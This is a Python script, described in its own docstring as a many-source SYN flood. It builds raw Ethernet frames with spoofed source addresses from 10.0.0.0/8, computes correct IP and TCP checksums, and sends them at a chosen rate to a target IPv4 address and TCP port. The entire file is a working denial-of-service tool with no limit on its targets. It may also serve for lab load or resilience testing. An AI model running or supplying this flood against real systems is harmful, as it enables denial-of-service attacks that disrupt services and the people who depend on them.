#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A SYN flood of many sources: raw frames out of a port.

usage: flood.py PORT DESTINATION-MAC ADDRESS TCP-PORT COUNT RATE

COUNT frames, RATE a second (0: as fast as it goes), to the IPv4 ADDRESS and TCP-PORT. Each has a source address of its own
below 10.0.0.0/8, in a scrambled order, and right checksums. Prints how many seconds it took.
"""

import socket
import struct
import sys
import time

BURST = 64


def ones_sum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total


def template(destination_mac, own_mac, address, port):
    """The frame without source address and checksums, and the sums of what is constant in both (RFC 791, RFC 9293)."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, socket.IPPROTO_TCP, 0, bytes(4), socket.inet_aton(address))
    tcp = struct.pack("!HHIIBBHHH", 0, port, 7, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = socket.inet_aton(address) + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    frame = bytearray(destination_mac + own_mac + b"\x08\x00" + ip + tcp).ljust(60, b"\0")
    return bytearray(frame), ones_sum(ip), ones_sum(pseudo + tcp)


def fold(total):
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff


def flood(out, frame, ip_sum, tcp_sum, count, rate):
    pack, started = struct.pack_into, time.monotonic()
    for i in range(count):
        # An odd multiplier permutes the 2^24 addresses of the network.
        low = (i * 0x9e3779 + 0x2545f5) & 0xffffff
        high, rest, source_port = 10 << 8 | low >> 16, low & 0xffff, 1024 + i % 60000
        pack("!H", frame, 24, fold(ip_sum + high + rest))
        pack("!HHHHH", frame, 26, high, rest, *struct.unpack_from("!HH", frame, 30), source_port)
        pack("!H", frame, 50, fold(tcp_sum + high + rest + source_port))
        out.send(frame)
        if rate and i % BURST == 0:
            ahead = started + i / rate - time.monotonic()
            if ahead > 0:
                time.sleep(ahead)
    return time.monotonic() - started


def main():
    if len(sys.argv) != 7:
        sys.exit(__doc__.strip())
    device, mac, address, port, count, rate = sys.argv[1:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((device, 0))
        own = out.getsockname()[4]
        frame, ip_sum, tcp_sum = template(bytes.fromhex(mac.replace(":", "")), own, address, int(port))
        print(f"{flood(out, frame, ip_sum, tcp_sum, int(count), float(rate)):.3f}")


if __name__ == "__main__":
    main()
